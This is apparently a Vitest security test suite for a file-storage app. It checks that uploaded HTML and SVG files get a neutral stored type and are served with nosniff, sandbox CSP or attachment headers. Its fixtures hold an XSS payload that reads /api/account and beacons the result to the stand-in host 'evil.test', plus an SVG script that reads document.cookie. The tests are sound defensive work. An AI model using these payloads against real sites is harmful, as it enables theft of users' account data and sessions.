import { eq } from "drizzle-orm";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { getDb } from "@/db";
import { fileVersions } from "@/db/schema";
import * as contentRoute from "@/app/api/preview/[fileId]/content/route";
import * as previewRoute from "@/app/api/preview/[fileId]/route";
import { POST as upload } from "@/app/api/file/upload/route";
import { POST as fileTus } from "@/app/api/file/tus/route";
import * as tusRoute from "@/app/api/tus/[[...path]]/route";
import { downloadById } from "@/lib/server/downloads/serve-download";
import { tusSessionResponse } from "@/lib/contracts/uploads";
import { createFileToken } from "@/lib/server/tokens/create-file-token";
import { createTestUser, type TestUser } from "../../helpers/factories";
import { serveNode } from "../../helpers/node-server";
import { ctxFor } from "../../helpers/files";
import { call } from "../../helpers/http";
import { multipartBody, openDatabase } from "../../helpers/upload-factories";
import { uploadBytes } from "../previews/fixtures";

// Finding 1 of issue 11: uploaded HTML must never run on our origin, whatever type the client declared.
const HTML = "<!doctype html><html><body><script>fetch('/api/account').then(r=>r.text()).then(t=>navigator.sendBeacon('//evil.test',t))</script></body></html>";
const SVG = `<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.cookie)</script></svg>`;

let server: Awaited<ReturnType<typeof serveNode>>;
let base = "";
beforeAll(openDatabase, 180_000);
beforeAll(async () => {
  server = await serveNode((req, res) => downloadById(req, res));
  base = server.url;
});
afterAll(async () => {
  await server.close();
});

const at = (versionId: number) => ({ params: { fileId: String(versionId) } });
const storedMime = async (versionId: number) => (await (await getDb()).select().from(fileVersions).where(eq(fileVersions.id, versionId)))[0].mime;

async function multipart(user: TestUser, filename: string, data: string, type: string) {
  const { body, contentType } = multipartBody([
    { name: "folderId", value: String(user.privateRootId) },
    { name: "targetFile", filename, data: Buffer.from(data), type },
  ]);
  const res = await call(upload, { method: "POST", token: user.token, rawBody: body, query: { full: "1" }, headers: { "content-type": contentType } });
  expect(res.status, res.text).toBe(201);
  return res.body as { id: number; mime: string };
}

/** A whole tus upload, declaring `filetype` in the metadata as tus-js-client does. */
async function tusUpload(user: TestUser, name: string, data: string, filetype: string) {
  const bytes = Buffer.from(data);
  const session = await call(fileTus, { method: "POST", token: user.token, body: { name, target: user.privateRootId, size: bytes.length } });
  expect(session.status, session.text).toBe(201);
  const key = tusSessionResponse.parse(session.body)[0].sessionKey;
  const b64 = (s: string) => Buffer.from(s).toString("base64");
  const tus = async (method: "POST" | "PATCH", path: string, headers: Record<string, string>, body?: Uint8Array) => {
    const req = new Request(`http://coffre.test${path}`, {
      method,
      headers: { "tus-resumable": "1.0.0", authorization: `Bearer ${user.token}`, ...headers },
      body: body as BodyInit | undefined,
      duplex: "half",
    } as RequestInit);
    return tusRoute[method](req);
  };
  const created = await tus("POST", "/api/tus", { "upload-length": String(bytes.length), "upload-metadata": `token ${b64(key)},filename ${b64(name)},filetype ${b64(filetype)}` });
  expect(created.status).toBe(201);
  const patched = await tus("PATCH", created.headers.get("location")!, { "upload-offset": "0", "content-type": "application/offset+octet-stream" }, bytes);
  expect(patched.status).toBe(204);
  const done = await call(fileTus, { method: "POST", token: user.token, body: { token: key } });
  expect(done.status, done.text).toBe(201);
  return done.body as { id: number };
}

/** The preview page, and the content route with a preview token of the user (as any page element would load it). */
async function preview(user: TestUser, versionId: number) {
  const page = await call(previewRoute.GET, { ...at(versionId), token: user.token });
  expect(page.status, page.text).toBe(200);
  const { token } = await createFileToken(await ctxFor(user), versionId, "preview");
  const content = await call(contentRoute.GET, { ...at(versionId), query: { token } });
  expect(content.status, content.text).toBe(200);
  return { page, content };
}

/** What api.md's "Served types" asks of content that could run script. */
function expectNeverRunsInline(res: { headers: Headers }) {
  expect(res.headers.get("x-content-type-options")).toBe("nosniff");
  const disposition = res.headers.get("content-disposition") ?? "";
  if (!disposition.startsWith("attachment")) expect(res.headers.get("content-security-policy")).toMatch(/^sandbox[;\s]|^sandbox$/);
  // The only types shown without the sandbox's protection of the type itself: PDFs and raster images.
  expect(res.headers.get("content-type")).not.toMatch(/^application\/pdf|^image\/(png|jpeg|gif|webp|avif|bmp)/);
}

/** Every frame of content on the preview page is sandboxed. */
const expectFramesSandboxed = (html: string) => {
  for (const frame of html.match(/<iframe[^>]*>/g) ?? []) expect(frame).toMatch(/\ssandbox[\s=>]/);
  expect(html).not.toMatch(/<(embed|object)\b/);
};

describe("served types (issue 11, finding 1)", () => {
  it("an HTML page uploaded as report.pdf declared text/html (multipart) is neither HTML nor PDF, and never runs inline", async () => {
    const user = await createTestUser();
    const file = await multipart(user, "report.pdf", HTML, "text/html");
    expect(file.mime).not.toMatch(/html|pdf/);
    expect(await storedMime(file.id)).toBe("application/octet-stream");
    const { page, content } = await preview(user, file.id);
    expectFramesSandboxed(page.text);
    expectNeverRunsInline(content);
  });

  it("the same through tus, declaring filetype text/html", async () => {
    const user = await createTestUser();
    const file = await tusUpload(user, "report.pdf", HTML, "text/html");
    expect(await storedMime(file.id)).not.toMatch(/html|pdf/);
    const { page, content } = await preview(user, file.id);
    expectFramesSandboxed(page.text);
    expectNeverRunsInline(content);
  });

  it("a declared PDF or image type is not kept for bytes that are something else", async () => {
    const user = await createTestUser();
    expect((await multipart(user, "scan.pdf", HTML, "application/pdf")).mime).toBe("application/octet-stream");
    expect((await multipart(user, "photo.png", SVG, "image/png")).mime).toBe("application/octet-stream");
    expect(await storedMime((await tusUpload(user, "photo.jpg", HTML, "image/jpeg")).id)).toBe("application/octet-stream");
  });

  it("an SVG with a script is shown sandboxed through the preview content, whatever its name and declared type", async () => {
    const user = await createTestUser();
    for (const [name, declared] of [
      ["drawing.svg", "image/svg+xml"],
      ["scan.pdf", "application/xml"],
    ] as const) {
      const file = await multipart(user, name, SVG, declared);
      expect(file.mime).not.toMatch(/pdf|png|jpeg/);
      const { page, content } = await preview(user, file.id);
      expectFramesSandboxed(page.text);
      expectNeverRunsInline(content);
    }
  });

  it("rows stored before sniffing keep their declared type but are served sandboxed (the stored type is trusted only for PDFs and images)", async () => {
    const user = await createTestUser();
    const { version } = await uploadBytes(user, user.privateRootId!, "report.pdf", Buffer.from(HTML));
    // What the original code stored for a declared text/html.
    await (await getDb()).update(fileVersions).set({ mime: "text/html" }).where(eq(fileVersions.id, version.id));
    const { page, content } = await preview(user, version.id);
    expectFramesSandboxed(page.text);
    expect(content.headers.get("content-type")).toBe("text/html");
    expect(content.headers.get("content-security-policy")).toMatch(/^sandbox; default-src 'none'/);
    expect(content.headers.get("x-content-type-options")).toBe("nosniff");
  });

  it("downloads stay attachments with nosniff and a sandbox policy", async () => {
    const user = await createTestUser();
    const file = await multipart(user, "page.html", HTML, "text/html");
    const res = await fetch(`${base}/api/file/${file.id}/download`, { headers: { authorization: `Bearer ${user.token}` } });
    expect(res.status).toBe(200);
    expect(await res.text()).toBe(HTML);
    expect(res.headers.get("content-disposition")).toMatch(/^attachment/);
    expect(res.headers.get("x-content-type-options")).toBe("nosniff");
    expect(res.headers.get("content-security-policy")).toBe("sandbox");
  });
});
